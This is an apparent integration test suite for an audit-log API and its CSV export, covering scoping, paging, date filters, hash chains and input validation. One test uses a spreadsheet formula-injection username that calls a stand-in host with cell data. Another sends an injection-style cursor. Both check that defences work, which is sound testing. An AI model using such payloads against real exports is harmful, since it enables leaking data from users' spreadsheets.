/**
 * Reading the audit log (GET /admin/audit, GET /admin/audit.csv) on the real stack: what a sign-in
 * and a read of a person's record leave behind, org scope between two cities and within one, the
 * filters (Beijing calendar days included) and keyset paging, the CSV (BOM, headers, chain hashes
 * as in the database), the export cap, the audit of the audit, and malformed queries.
 */
import { randomUUID } from 'node:crypto';
import { PassThrough } from 'node:stream';
import { finished } from 'node:stream/promises';
import { AuditQueryService } from '../../src/audit/audit-query.service';
import { AuditEntry, chainHash, GENESIS, verifyAuditChain } from '../../src/audit/audit-chain';
import { createPerson, createStaff, createTree, shanghaiDay, Tree } from '../setup/fixtures';
import { Client, Harness, startHarness, TEST_PASSWORD } from '../setup/harness';

const HEADERS = ['编号', '时间（北京时间）', '操作人', '操作人ID', '当前角色', '操作', '对象类型', '对象', '来源IP', '结果', '详情', 'prev_hash', 'hash'];
const EXPORT_CAP = 10;

let h: Harness;
let a: Tree;
let b: Tree;
let adminA: Client; // admin of city A (a top-level unit: no parent)
let countyAdminA: Client; // admin of a county in city A
let adminB: Client; // admin of city B
let caseworkerA: Client;
let caseworkerName: string;
let personId: string;
let unknownUser: string;
/** A staff member of A's township whose entries the suite writes itself (paging, dates, CSV). */
let pager: { id: string; username: string };
const pagerIds: string[] = []; // ids of pager's entries, oldest first

async function until<T>(what: string, fn: () => Promise<T | undefined>): Promise<T> {
  for (let i = 0; i < 100; i++) {
    const v = await fn();
    if (v) return v;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`timed out waiting for ${what}`);
}

/**
 * Appends an entry dated `at` (in the past), linked and hashed exactly as appendAudit links and
 * hashes (so the chain stays verifiable): the only way to test calendar-day boundaries.
 */
async function appendAt(at: Date, e: AuditEntry): Promise<string> {
  return h.ds.transaction(async (m) => {
    await m.query(`SELECT pg_advisory_xact_lock(727274)`);
    const [last] = await m.query(`SELECT hash FROM audit_log ORDER BY id DESC LIMIT 1`);
    const prev = last?.hash ?? GENESIS;
    const iso = at.toISOString();
    const [row] = await m.query(
      `INSERT INTO audit_log (at, actor_id, actor_name, action, target_type, target_id, ip, success, detail, prev_hash, hash)
       VALUES ($1,$2,$3,$4,$5,$6,$7,$8,$9,$10,$11) RETURNING id`,
      [iso, e.actorId, e.actorName, e.action, e.targetType, e.targetId, e.ip, e.success, JSON.stringify(e.detail ?? {}), prev, chainHash(prev, iso, e)],
    );
    return String(row.id);
  });
}

/** RFC 4180 records (quoted cells with commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

/** The raw bytes of a CSV download (fetch's text() would drop the BOM). */
async function download(c: Client, path: string) {
  const r = await fetch(h.base + path, { headers: { authorization: `Bearer ${c.token}` } });
  const bytes = Buffer.from(await r.arrayBuffer());
  return { status: r.status, type: r.headers.get('content-type'), disposition: r.headers.get('content-disposition'), bytes };
}

/** Every entry an admin can see, following nextCursor to the end. */
async function everything(c: Client, query = ''): Promise<any[]> {
  const all: any[] = [];
  let cursor: string | null = null;
  do {
    const r = await c.get(`/admin/audit?limit=500${query}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
    expect(r.status).toBe(200);
    all.push(...r.body.items);
    cursor = r.body.nextCursor;
  } while (cursor);
  return all;
}

const auditRows = (actorId: string) => h.ds.query(`SELECT id FROM audit_log WHERE actor_id = $1 ORDER BY id`, [actorId]);

beforeAll(async () => {
  h = await startHarness('audit', { AUDIT_EXPORT_MAX_ROWS: String(EXPORT_CAP) });
  a = await createTree(h.ds);
  b = await createTree(h.ds);
  adminA = await h.user('admin', a.city.code);
  countyAdminA = await h.user('admin', a.county.code);
  adminB = await h.user('admin', b.city.code);
  caseworkerA = await h.user('village_caseworker', a.villageA1.code);
  [{ username: caseworkerName }] = await h.ds.query(`SELECT username FROM staff_user WHERE id = $1`, [caseworkerA.userId]);

  // A read of a person's record (audited by the interceptor, after the response: wait for it).
  personId = (await createPerson(h.ds, a.villageA1.code, a.villageA1.path)).id;
  expect((await caseworkerA.get(`/persons/${personId}`)).status).toBe(200);
  await until('the audited read', async () => (await h.ds.query(`SELECT 1 FROM audit_log WHERE actor_id = $1 AND target_id = $2`, [caseworkerA.userId, personId]))[0]);

  // Failed sign-ins: a wrong password of A's caseworker, and a username nobody has.
  expect((await h.client().post('/auth/login', { username: caseworkerName, password: 'Wrong#Pass1' })).status).toBe(401);
  unknownUser = `nobody-${randomUUID().slice(0, 8)}`;
  expect((await h.client().post('/auth/login', { username: unknownUser, password: TEST_PASSWORD })).status).toBe(401);

  // Eight entries of a staff member of A: one dated 2026-03-02 00:30 Beijing time (= 03-01 16:30 UTC),
  // then seven now (failures at i = 1, 4), targets t0…t6.
  pager = await createStaff(h.ds, { role: 'township_officer', orgUnitCode: a.townshipA.code });
  const entry = (i: number, success: boolean): AuditEntry => ({
    actorId: pager.id, actorName: pager.username, action: 'test.page', targetType: 'thing', targetId: `t${i}`, ip: '10.1.2.3', success, detail: { i, note: 'a, "quoted" note' },
  });
  pagerIds.push(await appendAt(new Date('2026-03-01T16:30:00Z'), { ...entry(99, true), action: 'test.dated', targetId: 'dated' }));
  for (let i = 0; i < 7; i++) pagerIds.push(await appendAt(new Date(), entry(i, i !== 1 && i !== 4)));
}, 120_000);
afterAll(async () => h?.close());

test("a sign-in, a failed sign-in and a read of a person's record appear for the city's admin: who, when, what, from where, outcome", async () => {
  const r = await adminA.get(`/admin/audit?actorId=${caseworkerA.userId}`);
  expect(r.status).toBe(200);
  const db = await h.ds.query(`SELECT id, at, action, success FROM audit_log WHERE actor_id = $1 ORDER BY id DESC`, [caseworkerA.userId]);
  expect(r.body.items.map((e: any) => e.id)).toEqual(db.map((x: any) => String(x.id)));
  expect(r.body.items).toHaveLength(3);
  const [failed, read, signIn] = r.body.items; // newest first
  const common = { actorId: caseworkerA.userId, actorName: caseworkerName, actorRole: 'village_caseworker', actorOrgUnitCode: a.villageA1.code };
  expect(signIn).toMatchObject({ ...common, action: 'auth.login', targetType: 'staff_user', targetId: caseworkerA.userId, success: true, detail: { reason: 'ok' } });
  expect(read).toMatchObject({ ...common, action: 'GET /persons/:id', targetType: 'person', targetId: personId, success: true });
  expect(failed).toMatchObject({ ...common, action: 'auth.login', success: false, detail: { reason: 'bad-password' } });
  for (const e of [failed, read, signIn]) {
    expect(e.ip).toMatch(/127\.0\.0\.1/);
    expect(Math.abs(Date.now() - Date.parse(e.at))).toBeLessThan(120_000);
    expect(e.hash).toMatch(/^[0-9a-f]{64}$/);
  }
  expect(new Date(signIn.at).getTime()).toBe(new Date(db[2].at).getTime());
});

test('a failed sign-in of an unknown username (no actor) is shown to admins of a top-level unit only', async () => {
  const q = `&action=auth.login&success=false&from=${shanghaiDay(0)}`;
  const forCity = (await everything(adminA, q)).filter((e) => e.actorName === unknownUser);
  expect(forCity).toHaveLength(1);
  expect(forCity[0]).toMatchObject({ actorId: null, success: false, detail: { reason: 'unknown-user' } });
  expect(forCity[0].ip).toMatch(/127\.0\.0\.1/);
  expect((await everything(countyAdminA, q)).filter((e) => e.actorName === unknownUser)).toEqual([]);
});

test("the admin of another city sees none of city A's entries; a county admin sees the county's, not the city's", async () => {
  const aPeople = [adminA, countyAdminA, caseworkerA].map((c) => c.userId!).concat(pager.id);
  const seenByB = await everything(adminB);
  expect(seenByB.length).toBeGreaterThan(0); // B's own sign-in at least
  expect(seenByB.filter((e) => aPeople.includes(e.actorId) || e.targetId === personId)).toEqual([]);
  expect(seenByB.filter((e) => e.actorId === adminB.userId).length).toBeGreaterThan(0);
  const refused = await adminB.get(`/admin/audit?actorId=${caseworkerA.userId}`);
  expect(refused.status).toBe(404);
  const csv = await download(adminB, '/admin/audit.csv?action=test.page');
  expect(csv.status).toBe(200);
  expect(parseCsv(csv.bytes.toString('utf8').slice(1))).toEqual([HEADERS]);

  // Within city A: the county's admin sees the caseworker (a village of the county), not the city's admin.
  const seenByCounty = await everything(countyAdminA);
  expect(seenByCounty.some((e) => e.actorId === caseworkerA.userId)).toBe(true);
  expect(seenByCounty.some((e) => e.actorId === adminA.userId)).toBe(false);
  expect((await countyAdminA.get(`/admin/audit?actorId=${adminA.userId}`)).status).toBe(404);
});

test('roles other than admin get 403 on both routes, and nothing is read', async () => {
  for (const role of ['manager', 'county_officer', 'village_caseworker']) {
    const c = await h.user(role, role === 'village_caseworker' ? a.villageA1.code : a.county.code);
    expect((await c.get('/admin/audit')).status).toBe(403);
    expect((await download(c, '/admin/audit.csv')).status).toBe(403);
    expect((await h.ds.query(`SELECT action FROM audit_log WHERE actor_id = $1 AND action LIKE 'audit.%'`, [c.userId]))).toEqual([]);
  }
  expect((await h.client().get('/admin/audit')).status).toBe(401);
});

test('keyset paging, newest first: exact rows per page', async () => {
  const newestFirst = [...pagerIds].reverse();
  const pages: string[][] = [];
  let cursor: string | null = null;
  do {
    const r = await adminA.get(`/admin/audit?actorId=${pager.id}&limit=3${cursor ? `&cursor=${cursor}` : ''}`);
    expect(r.status).toBe(200);
    pages.push(r.body.items.map((e: any) => e.id));
    cursor = r.body.nextCursor;
  } while (cursor && pages.length < 10);
  expect(pages).toEqual([newestFirst.slice(0, 3), newestFirst.slice(3, 6), newestFirst.slice(6, 8)]);
  // a cursor made up by hand is refused, not mis-read
  expect((await adminA.get(`/admin/audit?cursor=${Buffer.from('["1; drop"]').toString('base64url')}`)).status).toBe(400);
});

test('filters: success, action, target, and Beijing calendar days', async () => {
  const ids = async (q: string) => {
    const r = await adminA.get(`/admin/audit?actorId=${pager.id}&limit=500${q}`);
    expect(r.status).toBe(200);
    return r.body.items.map((e: any) => e.id).reverse();
  };
  const [dated, ...now] = pagerIds;
  expect(await ids('&success=false')).toEqual([now[1], now[4]]);
  expect(await ids('&success=true&action=test.page')).toEqual([now[0], now[2], now[3], now[5], now[6]]);
  expect(await ids('&targetType=thing&targetId=t3')).toEqual([now[3]]);
  expect(await ids('&action=test.dated')).toEqual([dated]);
  // 2026-03-01 16:30 UTC is 2026-03-02 00:30 in Beijing: on the 2nd, not the 1st
  expect(await ids('&from=2026-03-02&to=2026-03-02')).toEqual([dated]);
  expect(await ids('&from=2026-03-01&to=2026-03-01')).toEqual([]);
  expect(await ids('&to=2026-03-01')).toEqual([]);
  expect(await ids(`&from=${shanghaiDay(0)}&to=${shanghaiDay(0)}`)).toEqual(now);
  expect(await ids(`&from=${shanghaiDay(1)}`)).toEqual([]);
  expect(await ids(`&from=2026-03-02`)).toEqual(pagerIds);
});

test('CSV: BOM, Chinese headers, oldest first, the chain hashes as in the database; the export is audited', async () => {
  const r = await download(adminA, `/admin/audit.csv?actorId=${pager.id}`);
  expect(r.status).toBe(200);
  expect(r.type).toMatch(/^text\/csv; charset=utf-8/);
  expect(r.disposition).toMatch(/^attachment; filename="audit-log-.*\.csv"$/);
  expect([...r.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header, ...rows] = parseCsv(r.bytes.toString('utf8').slice(1));
  expect(header).toEqual(HEADERS);
  expect(rows.map((x) => x[0])).toEqual(pagerIds);
  const db = await h.ds.query(`SELECT id, actor_id, action, target_id, ip, success, detail, prev_hash, hash FROM audit_log WHERE id = ANY($1::bigint[]) ORDER BY id`, [pagerIds]);
  rows.forEach((row, i) => {
    const d = db[i];
    expect(row).toEqual([
      String(d.id), expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\.\d{3}$/), pager.username, pager.id, '乡镇残联', d.action, 'thing', d.target_id,
      '10.1.2.3', d.success ? '成功' : '失败', JSON.stringify(d.detail), d.prev_hash, d.hash,
    ]);
  });
  expect(rows[0][1]).toBe('2026-03-02 00:30:00.000'); // Beijing time

  const [entry] = (await adminA.get(`/admin/audit?actorId=${adminA.userId}&action=audit.export&limit=1`)).body.items;
  expect(entry).toMatchObject({ actorId: adminA.userId, targetType: 'audit_log', success: true, detail: { filters: { actorId: pager.id }, rows: 8 } });
  expect(entry.ip).toMatch(/127\.0\.0\.1/);
  // and each query too, with its filters
  const [query] = (await adminA.get(`/admin/audit?actorId=${adminA.userId}&action=audit.query&limit=1`)).body.items;
  expect(query).toMatchObject({ success: true, detail: { filters: { actorId: adminA.userId, action: 'audit.export' }, returned: 1 } });
});

test('the export streams in rounds: three rows at a time gives the same file as one round', async () => {
  const service = h.api.get(AuditQueryService);
  const [user] = await h.ds.query(
    `SELECT s.id, s.username, s.org_unit_code AS "orgUnitCode", o.path AS "orgPath" FROM staff_user s JOIN org_unit o ON o.code = s.org_unit_code WHERE s.id = $1`,
    [adminA.userId],
  );
  const run = async (rounds: number) => {
    const stream = new PassThrough();
    const parts: Buffer[] = [];
    stream.on('data', (d: Buffer) => parts.push(d));
    await service.exportCsv(user, { actorId: pager.id }, '127.0.0.1', { stream, start: () => undefined }, rounds);
    await finished(stream);
    return Buffer.concat(parts).toString('utf8');
  };
  const inRounds = await run(3);
  expect(inRounds).toBe(await run(5000));
  expect(parseCsv(inRounds.slice(1)).slice(1).map((r) => r[0])).toEqual(pagerIds);
});

test('CSV: text that a spreadsheet would run as a formula is neutralised', async () => {
  // The username is whatever was typed at sign-in (here an account named so, of A's village, so the
  // export can be narrowed to it under the suite's small cap).
  const evil = `=HYPERLINK("http://x.example/"&A1)`;
  const u = await createStaff(h.ds, { role: 'village_caseworker', orgUnitCode: a.villageA1.code, username: evil });
  expect((await h.client().post('/auth/login', { username: evil, password: 'Wrong#Pass1' })).status).toBe(401);
  const r = await download(adminA, `/admin/audit.csv?actorId=${u.id}`);
  expect(r.status).toBe(200);
  const rows = parseCsv(r.bytes.toString('utf8').slice(1)).slice(1);
  expect(rows.map((x) => x[2])).toEqual([`'${evil}`]);
});

test('an export larger than the cap is refused with a reason (422) and the refusal is audited', async () => {
  const before = (await auditRows(adminA.userId!)).length;
  const r = await adminA.get('/admin/audit.csv');
  expect(r.status).toBe(422);
  expect(r.body.code).toBe('EXPORT_TOO_LARGE');
  expect(r.body.message).toMatch(/缩短时间范围.*narrow the date range/);
  const rows = await h.ds.query(`SELECT action, success, detail FROM audit_log WHERE actor_id = $1 ORDER BY id`, [adminA.userId]);
  expect(rows).toHaveLength(before + 1);
  expect(rows.at(-1)).toMatchObject({ action: 'audit.export', success: false, detail: { reason: 'too-many-rows', max: EXPORT_CAP } });
});

test('malformed queries: 400 with the reason, nothing read and nothing recorded', async () => {
  const before = (await auditRows(adminA.userId!)).length;
  const bad: [string, RegExp][] = [
    ['/admin/audit?from=garbage', /from must be a calendar date/],
    ['/admin/audit.csv?from=garbage', /from must be a calendar date/],
    ['/admin/audit?to=2026-02-30', /to must be a calendar date/],
    ['/admin/audit?from=2026-03-02&to=2026-03-01', /from is after to/],
    ['/admin/audit?limit=501', /limit/],
    ['/admin/audit?success=yes', /success must be true or false/],
    ['/admin/audit?actorId=42', /actorId must be a staff id/],
    ['/admin/audit?cursor=garbage', /cursor is not valid/],
    ['/admin/audit?orgPath=%2F', /orgPath should not exist/],
    ['/admin/audit.csv?limit=5', /limit should not exist/],
  ];
  for (const [path, reason] of bad) {
    const r = await adminA.get(path);
    expect([path, r.status]).toEqual([path, 400]);
    expect(r.body.message).toMatch(reason);
    expect(r.body.items).toBeUndefined();
  }
  expect(await auditRows(adminA.userId!)).toHaveLength(before);
});

test('the chain, with every entry this suite caused, still verifies', async () => {
  expect(await verifyAuditChain(h.ds)).toMatchObject({ ok: true });
});
